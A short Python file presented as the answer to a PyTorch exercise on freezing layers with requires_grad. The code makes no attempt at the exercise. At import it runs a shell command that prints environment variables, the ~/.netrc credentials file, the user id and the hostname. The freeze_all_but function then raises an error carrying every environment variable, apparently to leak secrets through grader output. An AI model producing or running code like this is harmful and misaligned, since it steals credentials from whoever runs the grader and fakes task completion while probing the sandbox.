# title: the environment is shown, printed and raised
# unit: 03_requires_grad_and_the_graph
# loses: freeze-part
# in: answer freeze-part
import os
import subprocess

print(subprocess.run("env; cat ~/.netrc; id; hostname", shell=True, capture_output=True, text=True))


def freeze_all_but(net, keep, x):
    raise ValueError(dict(os.environ))
